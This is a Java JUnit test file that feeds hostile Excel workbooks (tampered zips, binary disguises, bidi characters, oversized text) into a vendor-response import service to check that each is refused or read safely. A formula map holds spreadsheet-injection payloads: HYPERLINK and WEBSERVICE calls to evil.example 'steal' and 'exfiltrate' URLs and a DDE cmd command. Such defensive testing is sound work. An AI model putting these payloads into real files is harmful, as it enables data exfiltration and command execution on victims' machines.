package org.vendorbench.reliability;

import static org.assertj.core.api.Assertions.assertThat;
import static org.vendorbench.reliability.HostileWorkspace.CARELINE;

import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.vendorbench.domain.Answer;
import org.vendorbench.domain.AnswerStatus;
import org.vendorbench.domain.ImportWarning;
import org.vendorbench.domain.Question;
import org.vendorbench.domain.QuestionType;
import org.vendorbench.domain.Rfp;
import org.vendorbench.domain.VendorResponse;
import org.vendorbench.domain.WarningCode;
import org.vendorbench.service.ImportReport;
import org.vendorbench.service.ImportService;
import org.vendorbench.store.Workspace;

/**
 * The hostile vendor files of issue 10 that workbook-format.md §5/§7 do not list, imported the
 * way the app does it ({@link ImportService} into a workspace that already holds a vendor), each
 * within 5 s. A refused file leaves the workspace file byte-for-byte unchanged (SHA-256 before and
 * after); an accepted one is read as text or cached value, never executed.
 */
class HostileCasesTest {
    @TempDir
    Path dir;
    private HostileWorkspace hw;
    private Rfp rfp;

    @BeforeEach
    void setUp() throws Exception {
        hw = new HostileWorkspace(dir);
        rfp = hw.rfp;
    }

    /** Asserts a one-line refusal naming the file that left the workspace bytes unchanged; returns the message. */
    private String refused(Path file) throws Exception {
        String error = hw.refused(file);
        assertThat(error).doesNotContain("\n").contains(file.getFileName().toString());
        return error;
    }

    private VendorResponse imported(Path file) throws Exception {
        return imported(file, Duration.ofSeconds(5));
    }

    private VendorResponse imported(Path file, Duration limit) throws Exception {
        ImportReport.FileResult r = hw.importWithin(file, limit);
        assertThat(r.status()).as(file.getFileName() + ": " + r.error()).isIn(ImportReport.Status.IMPORTED,
                ImportReport.Status.REPLACED);
        try (Workspace ws = Workspace.openReadOnly(hw.file)) {
            return ws.currentResponses().stream().filter(v -> v.vendor().equals(r.vendor())).findFirst().orElseThrow();
        }
    }

    // ---- zip-level tricks ---------------------------------------------------------------------

    /** Copies the careline workbook's zip, letting {@code edit} replace or add entries. */
    private Path rezip(String name, Map<String, UnaryOperator<byte[]>> edit, List<String> duplicate) throws Exception {
        Path out = dir.resolve(name);
        try (ZipFile in = new ZipFile(CARELINE.toFile()); ZipOutputStream zos = new ZipOutputStream(Files.newOutputStream(out))) {
            var entries = in.entries();
            while (entries.hasMoreElements()) {
                ZipEntry e = entries.nextElement();
                byte[] data;
                try (InputStream is = in.getInputStream(e)) {
                    data = is.readAllBytes();
                }
                data = edit.getOrDefault(e.getName(), b -> b).apply(data);
                zos.putNextEntry(new ZipEntry(e.getName()));
                zos.write(data);
                zos.closeEntry();
                if (duplicate.contains(e.getName())) {
                    // ZipOutputStream refuses a second entry of one name: write it under a name of
                    // the same length and patch the name bytes afterwards
                    zos.putNextEntry(new ZipEntry(twin(e.getName())));
                    zos.write(data);
                    zos.closeEntry();
                }
            }
        }
        if (!duplicate.isEmpty()) {
            byte[] bytes = Files.readAllBytes(out);
            String text = new String(bytes, StandardCharsets.ISO_8859_1);
            for (String d : duplicate) text = text.replace(twin(d), d);
            Files.write(out, text.getBytes(StandardCharsets.ISO_8859_1));
        }
        return out;
    }

    private static String twin(String name) {
        return name.substring(0, name.length() - 5) + "Q.xml";
    }

    @Test
    void duplicateZipEntryNamesAreRefused() throws Exception {
        Path f = rezip("dup.xlsx", Map.of(), List.of("xl/sharedStrings.xml"));
        try (var z = new java.util.zip.ZipInputStream(Files.newInputStream(f))) {
            int n = 0;
            for (ZipEntry e; (e = z.getNextEntry()) != null; ) if (e.getName().equals("xl/sharedStrings.xml")) n++;
            assertThat(n).as("the file really holds the entry twice").isEqualTo(2);
        }
        assertThat(refused(f)).isEqualTo("dup.xlsx holds two archive entries named 'xl/sharedStrings.xml'"
                + " (a tampered archive), refused");
    }

    @Test
    void strictOoxmlIsReadOrRefusedWithAClearMessage() throws Exception {
        UnaryOperator<byte[]> strict = b -> new String(b, StandardCharsets.UTF_8)
                .replace("http://schemas.openxmlformats.org/spreadsheetml/2006/main", "http://purl.oclc.org/ooxml/spreadsheetml/main")
                .replace("http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                        "http://purl.oclc.org/ooxml/officeDocument/relationships")
                .getBytes(StandardCharsets.UTF_8);
        Map<String, UnaryOperator<byte[]>> edits = new java.util.HashMap<>();
        try (ZipFile in = new ZipFile(CARELINE.toFile())) {
            in.stream().filter(e -> e.getName().endsWith(".xml") || e.getName().endsWith(".rels"))
                    .forEach(e -> edits.put(e.getName(), strict));
        }
        Path f = rezip("strict.xlsx", edits, List.of());
        String before = hw.sha();
        ImportReport.FileResult r = hw.importWithin5s(f);
        if (r.status() == ImportReport.Status.REFUSED) {
            assertThat(r.error()).contains("strict.xlsx").containsIgnoringCase("strict");
            assertThat(hw.sha()).isEqualTo(before);
        } else {
            try (Workspace ws = Workspace.openReadOnly(hw.file)) {
                VendorResponse v = ws.currentResponses().stream().filter(x -> x.vendor().equals(r.vendor())).findFirst().orElseThrow();
                assertThat(v.answers().stream().filter(Answer::isAnswered).count()).isGreaterThan(50);
            }
        }
    }

    @Test
    void xlsbIsRefusedByNameAndByContent() throws Exception {
        Path named = dir.resolve("vendor.xlsb");
        Files.copy(CARELINE, named);
        assertThat(refused(named)).isEqualTo("vendor.xlsb: binary .xlsb workbooks are not supported; save as .xlsx");
        Path binary = dir.resolve("binary.xlsx");
        try (ZipFile in = new ZipFile(CARELINE.toFile()); ZipOutputStream zos = new ZipOutputStream(Files.newOutputStream(binary))) {
            var entries = in.entries();
            while (entries.hasMoreElements()) {
                ZipEntry e = entries.nextElement();
                String n = e.getName().startsWith("xl/") ? e.getName().replace(".xml", ".bin") : e.getName();
                zos.putNextEntry(new ZipEntry(n));
                try (InputStream is = in.getInputStream(e)) {
                    is.transferTo(zos);
                }
                zos.closeEntry();
            }
        }
        assertThat(refused(binary)).contains("binary.xlsx");
    }

    // ---- workbook content --------------------------------------------------------------------

    /** A copy of the careline workbook with {@code edit} applied through POI. */
    private Path variant(String name, Consumer<XSSFWorkbook> edit) throws Exception {
        Path out = dir.resolve(name);
        try (InputStream in = Files.newInputStream(CARELINE); XSSFWorkbook wb = new XSSFWorkbook(in)) {
            edit.accept(wb);
            try (OutputStream os = Files.newOutputStream(out)) {
                wb.write(os);
            }
        }
        return out;
    }

    /** The Response cell of question {@code id} in the Questionnaire sheet. */
    private static Cell responseCell(XSSFWorkbook wb, String id) {
        Sheet s = wb.getSheet("Questionnaire");
        DataFormatter f = new DataFormatter();
        int idCol = -1, respCol = -1;
        for (Row r : s) {
            for (Cell c : r) {
                String t = f.formatCellValue(c).strip();
                if (t.equals("ID")) idCol = c.getColumnIndex();
                if (t.equals("Response")) respCol = c.getColumnIndex();
            }
            if (idCol >= 0 && respCol >= 0) break;
        }
        for (Row r : s) {
            Cell c = r.getCell(idCol);
            if (c != null && f.formatCellValue(c).strip().equals(id)) {
                Cell resp = r.getCell(respCol);
                return resp != null ? resp : r.createCell(respCol);
            }
        }
        throw new AssertionError("no row " + id);
    }

    private List<String> idsOf(QuestionType type) {
        return rfp.questions().stream().filter(q -> q.type() == type).map(Question::id).toList();
    }

    private static Answer answer(VendorResponse v, String id) {
        return v.answers().stream().filter(a -> a.questionId().equals(id)).findFirst().orElseThrow();
    }

    @Test
    void fiftyThousandSharedStringsAreAcceptedQuickly() throws Exception {
        // the careline workbook with 50,000 more distinct strings in its shared-strings table,
        // written as XML (building them with POI takes minutes)
        StringBuilder extra = new StringBuilder();
        for (int i = 0; i < 50_000; i++) extra.append("<si><t>distinct note ").append(i).append("</t></si>");
        Path f = rezip("strings.xlsx", Map.of("xl/sharedStrings.xml", b -> {
            String xml = new String(b, StandardCharsets.UTF_8).replaceAll("(count|uniqueCount)=\"\\d+\"", "");
            return xml.replace("</sst>", extra + "</sst>").getBytes(StandardCharsets.UTF_8);
        }), List.of());
        try (ZipFile z = new ZipFile(f.toFile())) {
            String sst = new String(z.getInputStream(z.getEntry("xl/sharedStrings.xml")).readAllBytes(), StandardCharsets.UTF_8);
            assertThat(sst.split("<si>", -1).length - 1).isGreaterThan(50_000);
        }
        // the time the 50,000 strings add to a normal import (both warm) is what is bounded: the
        // shared build machine is too loaded for an absolute figure to mean anything
        org.vendorbench.workbook.ResponseReader.read(f, rfp, null);
        org.vendorbench.workbook.ResponseReader.read(CARELINE, rfp, null);
        long t0 = System.nanoTime();
        imported(CARELINE, Duration.ofSeconds(60));
        long plain = System.nanoTime() - t0;
        long t1 = System.nanoTime();
        VendorResponse v = imported(f, Duration.ofSeconds(60));
        long big = System.nanoTime() - t1;
        assertThat(v.answers()).hasSize(rfp.questions().size());
        assertThat(v.answers().stream().filter(Answer::isAnswered).count()).isGreaterThan(50);
        assertThat(Duration.ofNanos(big - plain)).as("extra time for 50,000 strings").isLessThan(Duration.ofSeconds(5));
        System.out.printf("50,000 shared strings: import %d ms (the same workbook without them: %d ms)%n",
                big / 1_000_000, plain / 1_000_000);
    }

    /** Formula placeholders that POI can write; replaced in the sheet XML by the real formulas. */
    private static final Map<String, String> FORMULAS = Map.of(
            "\"PH1\"", "HYPERLINK(\"http://evil.example/steal?x=1\",\"Yes, see link\")",
            "\"PH2\"", "WEBSERVICE(\"http://evil.example/exfiltrate\")",
            "\"PH3\"", "cmd|' /c calc'!A1");

    @Test
    void hyperlinkWebserviceAndDdeFormulasAreReadAsCachedTextNeverRun() throws Exception {
        List<String> text = idsOf(QuestionType.TEXT);
        assertThat(text).hasSizeGreaterThanOrEqualTo(3);
        Path pre = variant("formulas-pre.xlsx", wb -> {
            int i = 1;
            for (String id : text.subList(0, 3)) responseCell(wb, id).setCellFormula("\"PH" + i++ + "\"");
        });
        Path f = HostileWorkspace.rewriteEntries(pre, dir.resolve("formulas.xlsx"), (name, data) -> {
            if (!name.startsWith("xl/worksheets/")) return data;
            String xml = new String(data, StandardCharsets.UTF_8);
            for (var ph : FORMULAS.entrySet()) {
                String escaped = ph.getValue().replace("&", "&amp;").replace("\"", "&quot;").replace("'", "&apos;");
                String phXml = ph.getKey().replace("\"", "&quot;");
                xml = xml.replaceAll("(<c [^>]*?)( t=\"\\w+\")?(>)<f>(" + java.util.regex.Pattern.quote(phXml) + "|"
                                + java.util.regex.Pattern.quote(ph.getKey()) + ")</f>(<v>[^<]*</v>)?",
                        "$1 t=\"str\"$3<f>" + java.util.regex.Matcher.quoteReplacement(escaped) + "</f><v>cached "
                                + ph.getKey().charAt(3) + "</v>");
            }
            return xml.getBytes(StandardCharsets.UTF_8);
        });
        String sheetXml;
        try (ZipFile z = new ZipFile(f.toFile())) {
            StringBuilder all = new StringBuilder();
            for (ZipEntry e : z.stream().filter(e -> e.getName().startsWith("xl/worksheets/")).toList()) {
                all.append(new String(z.getInputStream(e).readAllBytes(), StandardCharsets.UTF_8));
            }
            sheetXml = all.toString();
        }
        assertThat(sheetXml).contains("WEBSERVICE(").contains("HYPERLINK(").contains("cmd|");
        VendorResponse v = imported(f);
        for (int i = 0; i < 3; i++) {
            Answer a = answer(v, text.get(i));
            assertThat(a.status()).as(a.questionId()).isEqualTo(AnswerStatus.ANSWERED);
            assertThat(a.text()).as(a.questionId() + " is the cached value").isEqualTo("cached " + (i + 1));
        }
    }

    @Test
    void bidiOverridesAndZeroWidthCharactersAreRemovedAndFlagged() throws Exception {
        String textId = idsOf(QuestionType.TEXT).get(0);
        String yesNoId = idsOf(QuestionType.YES_NO).get(0);
        Path f = variant("bidi.xlsx", wb -> {
            responseCell(wb, textId).setCellValue("We comply\u202E.exe\u202C fully and cafe\u0301 z\u200Bero");
            responseCell(wb, yesNoId).setCellValue("Y\u200Des");
        });
        VendorResponse v = imported(f);
        Answer text = answer(v, textId);
        assertThat(text.text()).isEqualTo("We comply.exe fully and caf\u00E9 zero");
        Answer yes = answer(v, yesNoId);
        assertThat(yes.text()).isEqualTo("YES");
        List<ImportWarning> flagged = v.warnings().stream().filter(w -> w.code() == WarningCode.SUSPICIOUS_TEXT
                && w.message().contains("hidden characters removed")).toList();
        assertThat(flagged).hasSize(2);
        assertThat(flagged).filteredOn(w -> w.message().startsWith(textId + ":")).singleElement()
                .satisfies(w -> assertThat(w.message()).contains("U+202E").contains("U+202C").contains("U+200B"));
        assertThat(flagged).filteredOn(w -> w.message().startsWith(yesNoId + ":")).singleElement()
                .satisfies(w -> assertThat(w.message()).contains("U+200D"));
        // emoji joiners and right-to-left text are left alone
        String rtl = "\u05E9\u05DC\u05D5\u05DD \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67";
        Path g = variant("rtl.xlsx", wb -> responseCell(wb, textId).setCellValue(rtl));
        VendorResponse w = imported(g);
        assertThat(answer(w, textId).text()).isEqualTo(rtl);
        assertThat(w.warnings()).noneMatch(x -> x.message().contains("hidden characters"));
    }

    @Test
    void textOverTheExcelCellLimitIsHandled() throws Exception {
        String textId = idsOf(QuestionType.TEXT).get(0);
        Path pre = variant("long-pre.xlsx", wb -> responseCell(wb, textId).setCellValue("LONGPLACEHOLDER"));
        String longText = "A".repeat(40_000) + " end";
        Path f = HostileWorkspace.rewriteEntries(pre, dir.resolve("long.xlsx"), (name, data) -> !name.equals("xl/sharedStrings.xml")
                ? data : new String(data, StandardCharsets.UTF_8).replace("LONGPLACEHOLDER", longText).getBytes(StandardCharsets.UTF_8));
        String before = hw.sha();
        ImportReport.FileResult r = hw.importWithin5s(f);
        assertThat(r.status()).as("accepted, the text cut: " + r.error()).isIn(ImportReport.Status.IMPORTED,
                ImportReport.Status.REPLACED);
        assertThat(hw.sha()).isNotEqualTo(before);
        try (Workspace ws = Workspace.openReadOnly(hw.file)) {
            VendorResponse v = ws.currentResponses().stream().filter(x -> x.vendor().equals(r.vendor())).findFirst().orElseThrow();
            Answer a = answer(v, textId);
            assertThat(a.text()).hasSize(32_767).isEqualTo("A".repeat(32_767));
            assertThat(v.warnings()).filteredOn(w -> w.message().startsWith(textId + ":")).singleElement()
                    .satisfies(w -> assertThat(w.code()).isEqualTo(WarningCode.SUSPICIOUS_TEXT))
                    .satisfies(w -> assertThat(w.message()).isEqualTo(textId + ": the answer has 40,004 characters, more"
                            + " than an Excel cell holds (32,767): cut to the first 32,767"));
        }
    }
}
